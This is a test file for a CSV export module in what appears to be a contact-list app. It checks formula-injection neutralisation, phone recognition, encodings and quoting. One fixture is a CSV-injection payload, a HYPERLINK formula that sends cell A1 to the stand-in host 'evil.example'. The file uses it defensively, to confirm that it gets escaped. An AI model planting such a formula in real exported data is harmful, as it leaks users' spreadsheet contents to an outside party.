import { describe, expect, it } from 'vitest';
import { decodeCsvBytes } from './decode';
import { csvCell, encodeCsv, exportCsv, exportCsvText } from './export';
import { isPlainNumberOrPhone, neutralizeFormula, restoreFormula } from './formula';

describe('formula neutralisation', () => {
	const table: [string, string][] = [
		// Formulas and anything a spreadsheet would evaluate: neutralised.
		[
			'=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
			`'=HYPERLINK("http://evil.example/?"&A1;"Нажмите")`
		],
		['=1+1', "'=1+1"],
		['@SUM(A1:A9)', "'@SUM(A1:A9)"],
		['+A1', "'+A1"],
		['-2+3', "'-2+3"],
		['-A1', "'-A1"],
		['=СУММ(A1:A2)', "'=СУММ(A1:A2)"],
		['\tTAB', "'\tTAB"],
		['\rCR', "'\rCR"],
		['- хлеб', "'- хлеб"],
		['+7 (812) 123-45-67 доб. x', "'+7 (812) 123-45-67 доб. x"],
		["+7 (911) 123-45-67 (a|'b'!c)", "'+7 (911) 123-45-67 (a|'b'!c)"],
		['+7 (911) 123-45-67 (=1+1)', "'+7 (911) 123-45-67 (=1+1)"],
		['+7 (911) 123-45-67 (дочь)+A1', "'+7 (911) 123-45-67 (дочь)+A1"],
		['+7 (911) 123-45-67 (SUM(A1))', "'+7 (911) 123-45-67 (SUM(A1))"],
		['+7 (911) 123-45-67, =1+1', "'+7 (911) 123-45-67, =1+1"],
		['+7 (911) 123-45-67 (дочь),', "'+7 (911) 123-45-67 (дочь),"],
		['+5+5', "'+5+5"],
		// Ordinary values: untouched.
		['+7 (812) 123-45-67', '+7 (812) 123-45-67'],
		['+79111234567', '+79111234567'],
		['+7-911-123-45-67', '+7-911-123-45-67'],
		// Phones as the grid shows them: with an extension, a note in words, several in a cell.
		['+7 (812) 123-45-67 доб. 12', '+7 (812) 123-45-67 доб. 12'],
		['+7 (911) 123-45-67 (дочь)', '+7 (911) 123-45-67 (дочь)'],
		['+7 (812) 123-45-67 доб. 12 (раб.)', '+7 (812) 123-45-67 доб. 12 (раб.)'],
		['+7 (911) 123-45-67 (соц. работник)', '+7 (911) 123-45-67 (соц. работник)'],
		[
			'+7 (911) 123-45-67 (дочь), +7 (812) 555-12-34',
			'+7 (911) 123-45-67 (дочь), +7 (812) 555-12-34'
		],
		['-5', '-5'],
		['-12', '-12'],
		['+5', '+5'],
		['+123', '+123'],
		['-1 234,5', '-1 234,5'],
		['-1\u00a0234,5', '-1\u00a0234,5'],
		['-0.5', '-0.5'],
		['-15%', '-15%'],
		// A dash for "nothing", as lists write it: no formula can be dashes alone.
		['-', '-'],
		['--', "'--"],
		['-A1', "'-A1"],
		['Иванов', 'Иванов'],
		['', ''],
		['1+1', '1+1'],
		// After white space too: a spreadsheet that trims the cell runs it.
		[' =1', "' =1"],
		['  =1+1', "'  =1+1"],
		['\u00a0+A1', "'\u00a0+A1"],
		['\u2003@SUM(A1)', "'\u2003@SUM(A1)"],
		['\n=1', "'\n=1"],
		[' \t-A1', "' \t-A1"],
		[' - хлеб', "' - хлеб"],
		// …but numbers and phones after spaces are still ordinary values.
		[' -5', ' -5'],
		['\u00a0-1 234,5', '\u00a0-1 234,5'],
		[' +7 (812) 123-45-67', ' +7 (812) 123-45-67'],
		['  +79111234567', '  +79111234567'],
		[' Иванов =1', ' Иванов =1'],
		['"=1+1', '"=1+1'],
		["' =1", "'' =1"],
		// Already escaped: one more apostrophe, so that import gives it back.
		["'=1+1", "''=1+1"],
		["'-5", "''-5"],
		["''@x", "'''@x"],
		["'abc", "'abc"],
		["'", "'"]
	];

	it.each(table)('%j is written as %j and read back as itself', (value, written) => {
		expect(neutralizeFormula(value)).toBe(written);
		expect(restoreFormula(written)).toBe(value);
	});

	it('recognises plain numbers and phones strictly', () => {
		expect(isPlainNumberOrPhone('+7 (812) 123-45-67')).toBe(true);
		expect(isPlainNumberOrPhone('-1 234,5')).toBe(true);
		expect(isPlainNumberOrPhone('-1 23,5')).toBe(false);
		expect(isPlainNumberOrPhone('+7 812 SUM')).toBe(false);
		expect(isPlainNumberOrPhone('+7 (812) 1')).toBe(false);
	});

	it("reads a third-party file's apostrophe before a formula start as Excel shows it", () => {
		expect(restoreFormula("'=A1")).toBe('=A1');
		expect(restoreFormula("'89111234567")).toBe("'89111234567");
	});
});

describe('exportCsv', () => {
	const header = ['ФИО', 'Телефон', 'Примечание'];
	const rows = [
		['Иванова Анна', '+7 (812) 123-45-67', 'Сын — "Алексей"; звонить\nвечером'],
		['Петров, Пётр', '', '=HYPERLINK("x")'],
		[' Сидоров ', '-5']
	];

	it('writes excel-ru: BOM, `;`, CRLF, quotes where needed, a padded short row', () => {
		const bytes = exportCsv({ header, rows });
		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		expect(new TextDecoder().decode(bytes.subarray(3))).toBe(
			'ФИО;Телефон;Примечание\r\n' +
				'Иванова Анна;+7 (812) 123-45-67;"Сын — ""Алексей""; звонить\nвечером"\r\n' +
				`"Петров, Пётр";;"'=HYPERLINK(""x"")"\r\n` +
				'" Сидоров ";-5;\r\n'
		);
	});

	it('writes utf8-comma without a BOM, separated by commas', () => {
		const bytes = exportCsv({ header, rows, format: 'utf8-comma' });
		expect([...bytes.slice(0, 2)]).toEqual([0xd0, 0xa4]); // Ф, no BOM
		const text = new TextDecoder().decode(bytes);
		expect(text.split('\r\n')[0]).toBe('ФИО,Телефон,Примечание');
		expect(text).toContain('"Петров, Пётр",,');
	});

	it('writes windows-1251 that decodes back, counting characters it cannot hold', () => {
		const { bytes, unmappable } = encodeCsv({
			header: ['ФИО'],
			rows: [['Зоë 👵']],
			format: 'windows-1251'
		});
		expect(unmappable).toBe(2);
		expect(decodeCsvBytes(bytes)).toEqual({ text: 'ФИО\r\nЗо? ?\r\n', encoding: 'windows-1251' });
	});

	it('quotes any of ; , TAB whatever the separator, and cells with edge spaces', () => {
		expect(csvCell('a,b')).toBe('"a,b"');
		expect(csvCell('a\tb')).toBe('"a\tb"');
		expect(csvCell('a;b')).toBe('"a;b"');
		expect(csvCell(' a')).toBe('" a"');
		expect(csvCell('a\u00a0')).toBe('"a\u00a0"');
		expect(csvCell('a b')).toBe('a b');
	});

	it('can leave formulas alone when asked', () => {
		expect(exportCsvText({ header: ['=x'], rows: [], neutralizeFormulas: false })).toBe('=x\r\n');
	});
});
